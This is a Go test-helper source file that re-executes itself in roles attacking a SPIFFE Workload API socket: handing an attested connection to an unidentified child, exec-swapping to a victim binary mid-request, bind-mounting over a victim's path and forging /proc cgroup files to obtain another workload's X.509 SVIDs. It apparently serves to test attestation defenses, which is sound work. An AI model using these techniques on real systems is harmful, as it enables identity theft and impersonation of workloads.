package attack

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"github.com/spiffe/go-spiffe/v2/workloadapi"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// What the processes of the attacks do, by the value of role: this test binary,
// or a copy of it at a path of the attacker's or of the victim's, started again.
// What a role prints on its output is its plunder.
const role = "ATTACK_ROLE"

var roles = map[string]func(socket string, args []string) error{
	"fetch":       fetch,
	"sleep":       func(string, []string) error { time.Sleep(3 * time.Second); return nil },
	"inherit":     inherit,
	"inherited":   inherited,
	"swap":        swap,
	"read":        read,
	"bind":        bindOverPath,
	"bind-cgroup": bindCgroup,
}

// play runs the role that the environment names, and reports whether it names one.
func play() bool {
	f := roles[os.Getenv(role)]
	if f == nil {
		return false
	}
	if err := f(os.Args[1], os.Args[2:]); err != nil {
		fmt.Fprintln(os.Stderr, os.Getenv(role)+":", err)
		os.Exit(1)
	}
	os.Exit(0)
	return true
}

// as returns the command that plays a role.
func as(name, path, socket string, args ...string) *exec.Cmd {
	cmd := exec.Command(path, append([]string{socket}, args...)...)
	cmd.Env = []string{role + "=" + name, "GORACE=atexit_sleep_ms=0"}
	return cmd
}

// fetch asks in the regular way and prints the SPIFFE IDs that it got.
func fetch(socket string, _ []string) error {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	c, err := workloadapi.New(ctx, workloadapi.WithAddr("unix://"+socket))
	if err != nil {
		return err
	}
	defer c.Close()
	svids, err := c.FetchX509SVIDs(ctx)
	if err != nil {
		return err
	}
	for _, s := range svids {
		fmt.Println(s.ID)
	}
	return nil
}

// request is the client's side of HTTP/2 up to and with one FetchX509SVID.
func request() []byte {
	var b bytes.Buffer
	b.WriteString(http2.ClientPreface)
	f := http2.NewFramer(&b, nil)
	f.WriteSettings()
	f.WriteRawFrame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, headers())
	f.WriteData(1, true, make([]byte, 5)) // an empty message
	return b.Bytes()
}

func headers() []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, h := range [][2]string{
		{":method", "POST"}, {":scheme", "http"}, {":path", "/SpiffeWorkloadAPI/FetchX509SVID"}, {":authority", "localhost"},
		{"content-type", "application/grpc"}, {"te", "trailers"}, {"workload.spiffe.io", "true"},
	} {
		e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	return b.Bytes()
}

// plunder prints every DATA frame that arrives until the connection ends. It
// answers pings, as the honest client would.
func plunder(rw io.ReadWriter) error {
	f := http2.NewFramer(rw, rw)
	for {
		fr, err := f.ReadFrame()
		if err != nil {
			return nil
		}
		switch fr := fr.(type) {
		case *http2.PingFrame:
			if !fr.IsAck() {
				f.WritePing(true, fr.Data)
			}
		case *http2.SettingsFrame:
			if !fr.IsAck() {
				f.WriteSettingsAck()
			}
		case *http2.DataFrame:
			fmt.Printf("%d bytes of DATA\n", len(fr.Data()))
		}
	}
}

// inherit is a program with an identity. It opens a connection, answers the
// challenge, and leaves the connection to a child that has none.
func inherit(socket string, args []string) error {
	conn, err := net.Dial("unix", socket)
	if err != nil {
		return err
	}
	f := http2.NewFramer(conn, conn)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return err
	}
	f.WriteSettings()
	for answered := false; !answered; {
		fr, err := f.ReadFrame()
		if err != nil {
			return fmt.Errorf("answer the challenge: %w", err)
		}
		if p, ok := fr.(*http2.PingFrame); ok && !p.IsAck() {
			f.WritePing(true, p.Data)
			answered = true
		}
	}
	file, err := conn.(*net.UnixConn).File()
	if err != nil {
		return err
	}
	child := as("inherited", args[0], socket)
	child.ExtraFiles = []*os.File{file}
	child.Stdout, child.Stderr = os.Stdout, os.Stderr
	return child.Run()
}

// inherited asks on a connection that another program opened.
func inherited(string, []string) error {
	conn := os.NewFile(3, "connection")
	f := http2.NewFramer(conn, conn)
	f.WriteRawFrame(http2.FrameHeaders, http2.FlagHeadersEndHeaders, 1, headers())
	f.WriteData(1, true, make([]byte, 5))
	return plunder(conn)
}

// swap sends a request, waits a little, and executes the victim's program in
// its own place, while a child of the attacker's holds the reading end. A
// child may also answer the challenge for it.
func swap(socket string, args []string) error {
	attacker, victim := args[0], args[1]
	wait, err := time.ParseDuration(args[2])
	if err != nil {
		return err
	}
	fd, err := syscall.Socket(syscall.AF_UNIX, syscall.SOCK_STREAM, 0)
	if err != nil {
		return err
	}
	if err := syscall.Connect(fd, &syscall.SockaddrUnix{Name: socket}); err != nil {
		return err
	}
	if _, err := syscall.Write(fd, request()); err != nil {
		return err
	}
	child := as("read", attacker, socket)
	child.ExtraFiles = []*os.File{os.NewFile(uintptr(fd), "connection")}
	child.Stdout, child.Stderr = os.Stdout, os.Stderr
	if err := child.Start(); err != nil {
		return err
	}
	time.Sleep(wait)
	return syscall.Exec(victim, []string{victim, socket}, []string{role + "=sleep"})
}

func read(string, []string) error { return plunder(os.NewFile(3, "connection")) }

// bindOverPath runs in user and mount namespaces of its own: it puts its own
// program at the victim's path and executes it there.
func bindOverPath(socket string, args []string) error {
	attacker, victim := args[0], args[1]
	if err := syscall.Mount("", "/", "", syscall.MS_REC|syscall.MS_PRIVATE, ""); err != nil {
		return fmt.Errorf("make mounts private: %w", err)
	}
	if err := syscall.Mount(attacker, victim, "", syscall.MS_BIND, ""); err != nil {
		return fmt.Errorf("bind over %s: %w", victim, err)
	}
	cmd := as("fetch", victim, socket)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	return cmd.Run()
}

// bindCgroup runs in user, mount and cgroup namespaces of its own: it shows the
// victim's cgroup directory in the place of every one that it can, and a
// cgroup file of its own making in /proc, and asks.
func bindCgroup(socket string, args []string) error {
	victims := strings.Split(args[0], ",")
	forged := args[1]
	if err := syscall.Mount("", "/", "", syscall.MS_REC|syscall.MS_PRIVATE, ""); err != nil {
		return fmt.Errorf("make mounts private: %w", err)
	}
	var done int
	for _, v := range victims {
		root := v[:strings.LastIndexByte(v, '/')]
		if err := syscall.Mount(v, root, "", syscall.MS_BIND, ""); err == nil {
			done++
		}
	}
	if err := syscall.Mount(forged, fmt.Sprintf("/proc/%d/cgroup", os.Getpid()), "", syscall.MS_BIND, ""); err == nil {
		done++
	}
	if done == 0 {
		return errors.New("nothing could be mounted")
	}
	signal.Ignore(syscall.SIGHUP)
	return fetch(socket, nil)
}
